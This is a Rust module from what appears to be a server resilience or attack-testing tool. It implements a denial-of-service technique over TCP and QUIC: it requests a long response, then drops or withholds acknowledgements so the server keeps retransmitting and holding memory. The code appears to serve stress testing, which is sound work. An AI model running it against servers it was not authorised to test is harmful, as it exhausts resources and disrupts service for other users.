//! Long answers of which nothing is acknowledged after their first octets: the server keeps what it sent, and sends it
//! again and again.

use super::hold::Hold;
use crate::attacks::request;
use crate::attacks::start::by;
use crate::context::Protocol;
use crate::guard;
use crate::http::h1;
use crate::outcome::Outcome;
use crate::quic::Acks;
use crate::quic_wire::transport_parameters::Stated;

/// From the answer's first octets on the kernel drops all that comes. So the end of the connection is not noticed either.
pub async fn over_tcp(hold: &Hold<'_>) -> Result<(), Outcome> {
    let context = hold.context;
    let mut stream = hold.tls(None).await?;
    let request = match context.protocol {
        Protocol::H1 => h1::get(&context.host, context.long_path()),
        _ => request::h2_first_words(context, context.long_path(), request::WHOLE_WINDOW),
    };
    by(hold.deadline(), async {
        stream.send(&request).await?;
        stream.receive(&mut Vec::new()).await
    })
    .await?;
    guard::deafen(stream.socket())?;
    let _held = hold.counted();
    tokio::time::sleep_until(hold.end().into()).await;
    Ok(())
}

/// From the answer's first octets on no packet is acknowledged; pings keep the connection open.
pub async fn over_quic(hold: &Hold<'_>) -> Result<(), Outcome> {
    let mut session = hold.quic(&Stated::default()).await?;
    request::begin(&mut session, &hold.context.host, hold.context.long_path())?;
    session.until(hold.deadline(), |client| client.stream_octets > 0).await?;
    session.client.acks = Acks::Withheld;
    let _held = hold.counted();
    hold.ping(&mut session).await
}
